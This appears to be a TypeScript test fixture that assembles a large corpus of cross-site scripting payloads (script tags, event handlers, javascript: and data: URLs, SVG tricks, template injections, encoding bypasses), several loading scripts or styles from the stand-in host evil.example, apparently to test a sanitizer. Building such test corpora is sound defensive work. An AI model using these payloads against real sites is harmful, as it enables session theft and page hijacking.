/** What a payload does where it runs: the page tells the test (see `Faults`). */
const RUN = 'ranPayload()';
const B64 = Buffer.from(`<script>${RUN}</script>`).toString('base64');

const EVENTS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart'];
const TAGS = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'audio src=x', 'iframe'];
/** Every tag with every handler. */
const HANDLERS = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${RUN}>`));

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html;base64,${B64}"></object>`,
  `<embed src="data:text/html;base64,${B64}">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href=//evil.example/>`,
  `<form action=javascript:${RUN}><button autofocus>x</button></form>`,
  `<button formaction=javascript:${RUN}>x</button>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>*{background:url(javascript:${RUN})}</style>`,
  `<div style="background:url(//evil.example/x)">x</div>`,
  `<img src="//evil.example/pixel.gif">`,
  `<xss id=x tabindex=1 onfocus=${RUN}></xss>`,
  `<portal src=//evil.example>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>x</button></form></dialog>`,
];

const URLS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://evil.example/%0a${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${B64}`,
  `vbscript:${RUN}`,
  `blob:https://evil.example/x`,
  `//evil.example/x.js`,
  `https://evil.example/"onmouseover=${RUN}`,
];
const LINKS = URLS.flatMap((url) => [url, `<a href="${url}">x</a>`, `[x](${url})`]);

const SVG = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x to=1>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><image href=x onerror=${RUN}></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
];

const QUOTES = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" onfocus=${RUN} autofocus x="`,
  `' onfocus=${RUN} autofocus x='`,
  `\` onfocus=${RUN} autofocus`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `"-${RUN}-"`,
  `'-${RUN}-'`,
  `\\"-${RUN}//`,
  `";${RUN};//`,
  `\u2028${RUN}`,
  `\u2029${RUN}//`,
];

const MARKDOWN = [
  `![x](x"onerror="${RUN})`,
  `![x](https://evil.example/pixel.gif)`,
  `[x]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `[x](data:text/html;base64,${B64})`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{% ${RUN} %}`,
  `{{=${RUN}}}`,
  `$t(${RUN})`,
  `{{count}} {{- ${RUN}}}`,
  `__CSP_NONCE__`,
  `<b v-on:click=${RUN}>x</b>`,
  `<b ng-init="${RUN}">x</b>`,
  `<b x-data x-init="${RUN}">x</b>`,
];

const UNICODE = [
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<scr\u0000ipt>${RUN}</script>`,
  `<\u0000script>${RUN}</script>`,
  `<script\u00a0>${RUN}</script>`,
  `<img\u000bsrc=x\u000bonerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<ſcript>${RUN}</ſcript>`,
  `<ımg src=x onerror=${RUN}>`,
  `\u202e<script>${RUN}</script>`,
  `\u200b<script>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `<a\u3000href=javascript:${RUN}>承诺</a>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror\u0020=\u0020${RUN}>`,
  `<img src=x oneRRor=${RUN}>`,
  `<img src=x onerror=&#114;anPayload&#40;&#41;>`,
  `<img src=\`x\` onerror=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
];

const PROTOTYPES = [`__proto__`, `constructor`, `dangerouslySetInnerHTML`, `{"__html":"<img src=x onerror=${RUN}>"}`];

/** Texts that run as a script, send for something, or change the page, wherever one of them is taken for more than a text. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...new Set([
    ...[...ELEMENTS, ...HANDLERS, ...LINKS, ...SVG, ...QUOTES],
    ...[...MARKDOWN, ...TEMPLATES, ...UNICODE, ...PROTOTYPES],
  ]),
];
